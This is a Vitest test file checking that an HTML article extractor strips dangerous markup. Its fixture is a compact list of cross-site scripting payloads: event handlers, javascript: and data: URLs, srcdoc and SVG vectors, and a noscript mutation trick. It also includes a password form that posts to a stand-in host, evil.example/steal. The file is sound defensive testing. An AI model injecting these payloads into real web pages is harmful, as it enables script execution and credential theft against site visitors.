import { describe, expect, it } from 'vitest';
import { extractArticle } from './extract-article.js';
import { articlePage } from './test-pages.js';

const XSS = `
<script>alert('script')</script>
<p>Image <img src="x" onerror="alert('img')"> and <img src="/ok.png" onload="alert('load')"></p>
<p><a href="javascript:alert('js')">plain js link</a> <a href="jAvAscript:alert('mixed')">mixed case</a>
<a href="  java&#x09;script:alert('entity')">entity</a> <a href="vbscript:msgbox(1)">vb</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a></p>
<iframe src="https://evil.example/embed/123"></iframe>
<iframe src="javascript:alert('frame')"></iframe>
<iframe srcdoc="<script>alert('srcdoc')</script>"></iframe>
<svg><script>alert('svg')</script><circle onload="alert('svg-load')"/></svg>
<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>body { background: expression(alert('css')) }</style>
<p style="background:url(javascript:alert('style'))" onclick="alert('click')" class="x" id="y">Styled paragraph with enough words to be kept in the article body.</p>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">
<math><mi xlink:href="javascript:alert('math')">x</mi></math>
<img src="data:text/html;base64,PHNjcmlwdD4=" alt="bad data">
<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==" alt="good data">
<details open ontoggle="alert('toggle')"><summary>More</summary>Details text.</details>
<noscript><p title="</noscript><img src=x onerror=alert('noscript')>">nested</p></noscript>
`;

describe('sanitising article HTML', () => {
  const result = extractArticle(articlePage(XSS), 'https://example.com/news/story.html');
  const html = result.contentHtml ?? '';

  it('keeps the article', () => {
    expect(result.isArticle).toBe(true);
    expect(html).toContain('Styled paragraph');
  });

  it('removes scripts, handlers and dangerous URLs', () => {
    expect(html).not.toMatch(/<script|<style|<svg|<form|<input|<button|<object|<embed|<meta/i);
    expect(html).not.toMatch(/\son\w+\s*=/i);
    expect(html).not.toMatch(/javascript:|vbscript:|data:text|srcdoc|expression\(/i);
    expect(html).not.toMatch(/alert\(/);
  });

  it('drops iframes from hosts outside the allowlist', () => {
    expect(html).not.toContain('evil.example');
    expect(html).not.toMatch(/<iframe/i);
  });

  it('drops style, class and id attributes', () => {
    expect(html).not.toMatch(/\s(style|class|id)=/i);
  });

  it('keeps raster data: images and resolves relative images', () => {
    expect(html).toContain('src="data:image/png;base64,');
    expect(html).toContain('src="https://example.com/ok.png"');
    // `x` is a relative URL like any other; its onerror handler is gone.
    expect(result.images.map((image) => image.src)).toEqual([
      'https://example.com/news/x',
      'https://example.com/ok.png',
    ]);
  });

  it('opens kept links in a new tab without an opener', () => {
    const kept = extractArticle(
      articlePage(
        '<p><a href="/about">About us</a> and <a href="mailto:me@example.com">mail</a></p>',
      ),
      'https://example.com/a/b.html',
    ).contentHtml!;
    expect(kept).toContain(
      '<a href="https://example.com/about" target="_blank" rel="noopener noreferrer">About us</a>',
    );
    expect(kept).toContain('href="mailto:me@example.com"');
  });

  it('keeps harmless structure: figures, quotes, code, tables, lists, sub/sup', () => {
    const kept = extractArticle(
      articlePage(`<figure><img src="a.jpg"><figcaption>Cap</figcaption></figure>
        <blockquote cite="/src">Quoted</blockquote><pre><code>let x = 1;</code></pre>
        <table><thead><tr><th>H</th></tr></thead><tbody><tr><td>D</td></tr></tbody></table>
        <ul><li>one</li></ul><ol start="3"><li>three</li></ol><p>H<sub>2</sub>O and x<sup>2</sup></p>
        <h2>Section</h2>`),
      'https://example.com/',
    ).contentHtml!;
    for (const tag of ['figure', 'figcaption', 'blockquote', 'pre', 'code', 'table', 'th', 'td'])
      expect(kept).toContain(`<${tag}`);
    expect(kept).toMatch(/<ol start="3">/);
    expect(kept).toContain('<sub>2</sub>');
    expect(kept).toContain('<sup>2</sup>');
    expect(kept).toContain('cite="https://example.com/src"');
  });
});
